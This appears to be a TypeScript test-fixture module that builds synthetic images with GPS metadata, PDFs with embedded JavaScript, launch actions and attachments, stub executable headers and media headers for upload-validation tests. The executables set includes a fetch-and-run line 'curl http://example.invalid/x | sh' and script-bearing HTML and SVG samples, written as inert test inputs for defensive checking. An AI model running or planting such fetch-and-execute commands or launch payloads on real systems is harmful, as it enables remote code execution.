import piexif from 'piexifjs';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';

/**
 * Files made on the spot for the upload tests: real images and PDFs written by maintained
 * libraries (sharp, piexifjs, pdf-lib), executables and media containers as the byte layouts
 * their formats define. Nothing here is a real person's document.
 */

/** A photo 64 wide and 48 high whose left half is red and right half blue, so a rotation shows. */
export async function photo(format: 'jpeg' | 'png' | 'webp'): Promise<Buffer> {
  const half = (colour: { r: number; g: number; b: number }) =>
    sharp({ create: { width: 32, height: 48, channels: 3, background: colour } }).png().toBuffer();
  return sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 0, g: 0, b: 255 } } })
    .composite([{ input: await half({ r: 255, g: 0, b: 0 }), left: 0, top: 0 }])
    .toFormat(format)
    .toBuffer();
}

/** Kitwe's civic centre as EXIF GPS rationals (12° 48′ S, 28° 12′ E). */
export const KITWE_GPS = {
  latitude: [[12, 1], [48, 1], [3600, 100]],
  longitude: [[28, 1], [12, 1], [1800, 100]],
};

/** A JPEG carrying EXIF written by piexifjs: a GPS position, the camera, an owner, and orientation 6 (turn 90° clockwise to view). */
export async function jpegWithGpsExif(): Promise<Buffer> {
  const exif = piexif.dump({
    '0th': {
      [piexif.ImageIFD.Make!]: 'TestCam',
      [piexif.ImageIFD.Model!]: 'Model GPS-1',
      [piexif.ImageIFD.Artist!]: 'Chanda Mulenga',
      [piexif.ImageIFD.Orientation!]: 6,
    },
    GPS: {
      [piexif.GPSIFD.GPSLatitudeRef!]: 'S',
      [piexif.GPSIFD.GPSLatitude!]: KITWE_GPS.latitude,
      [piexif.GPSIFD.GPSLongitudeRef!]: 'E',
      [piexif.GPSIFD.GPSLongitude!]: KITWE_GPS.longitude,
    },
  });
  return Buffer.from(piexif.insert(exif, (await photo('jpeg')).toString('binary')), 'binary');
}

/** The EXIF GPS tags piexifjs reads back from a JPEG (none once stripped). */
export function gpsTagsOf(jpeg: Buffer): number[] {
  return Object.keys(piexif.load(jpeg.toString('binary')).GPS).map(Number);
}

/** A PNG with an XMP packet and an ICC profile; a WebP with EXIF (camera owner and GPS), both written by sharp. */
export async function pngWithXmpAndIcc(): Promise<Buffer> {
  return sharp(await photo('png'))
    .withIccProfile('p3')
    .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Chanda Mulenga"/></rdf:RDF></x:xmpmeta>')
    .png()
    .toBuffer();
}

export async function webpWithExif(): Promise<Buffer> {
  return sharp(await photo('webp'))
    .withExif({ IFD0: { Artist: 'Chanda Mulenga' }, IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '12/1 48/1 36/1' } })
    .webp()
    .toBuffer();
}

async function onePagePdf(extend?: (document: PDFDocument) => void | Promise<void>): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage([300, 200]);
  page.drawText('Driving licence (test)', { x: 20, y: 100, size: 14 });
  await extend?.(document);
  return Buffer.from(await document.save());
}

export const pdfs = {
  plain: () => onePagePdf(),
  withDocumentJavaScript: () => onePagePdf((document) => document.addJavaScript('main', 'app.alert("hello")')),
  withOpenActionJavaScript: () =>
    onePagePdf((document) => {
      document.catalog.set(PDFName.of('OpenAction'), document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("x")') }));
    }),
  withEmbeddedFile: () =>
    onePagePdf(async (document) => {
      await document.attach(Buffer.from('MZ not really a program'), 'invoice.exe', { mimeType: 'application/octet-stream' });
    }),
  withLaunchLink: () =>
    onePagePdf((document) => {
      const page = document.getPage(0);
      const link = document.context.register(
        document.context.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [10, 10, 200, 40],
          A: { S: 'Launch', F: PDFString.of('cmd.exe') },
        }),
      );
      page.node.set(PDFName.of('Annots'), document.context.obj([link]));
    }),
};

/** Headers of programs and scripts, as their formats define them, padded to a plausible size. */
const padded = (head: Buffer) => Buffer.concat([head, Buffer.alloc(2048, 0x90)]);
export const executables = {
  elf: () => padded(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x00, 0x3e, 0x00])),
  windowsPe: () => {
    const program = Buffer.alloc(512);
    program.write('MZ', 0, 'latin1');
    program.writeUInt32LE(0x80, 0x3c);
    program.write('PE\0\0', 0x80, 'latin1');
    program.writeUInt16LE(0x014c, 0x84);
    return padded(program);
  },
  shellScript: () => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
  htmlWithScript: () => Buffer.from('<!doctype html><html><body><script>fetch("/api/me")</script></body></html>'),
  svgWithScript: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  zip: () => padded(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 0x08, 0])),
};

/** An ISO-BMFF `ftyp` box naming a brand, the start of MP4 audio (M4A) or HEIC files. */
export function ftyp(brand: string): Buffer {
  const box = Buffer.alloc(24);
  box.writeUInt32BE(24, 0);
  box.write('ftyp', 4, 'latin1');
  box.write(brand.padEnd(4), 8, 'latin1');
  box.write(`${brand.padEnd(4)}isom`, 16, 'latin1');
  return Buffer.concat([box, Buffer.alloc(1024)]);
}

/** The EBML header MediaRecorder writes at the start of WebM: DocType "webm". */
export function webmHeader(): Buffer {
  const docType = Buffer.from([0x42, 0x82, 0x84, ...Buffer.from('webm')]);
  const version = Buffer.from([0x42, 0x87, 0x81, 0x04, 0x42, 0x85, 0x81, 0x02]);
  const body = Buffer.concat([docType, version]);
  return Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | body.length]), body, Buffer.alloc(1024)]);
}

/** The first Ogg page of an Opus stream: "OggS", then the OpusHead packet at offset 28. */
export function oggOpusHeader(): Buffer {
  const page = Buffer.alloc(47);
  page.write('OggS', 0, 'latin1');
  page[5] = 0x02; // beginning of stream
  page[26] = 1; // one segment
  page[27] = 19; // of 19 bytes
  page.write('OpusHead', 28, 'latin1');
  page[36] = 1; // version
  page[37] = 1; // one channel
  page.writeUInt32LE(48000, 40);
  return Buffer.concat([page, Buffer.alloc(1024)]);
}
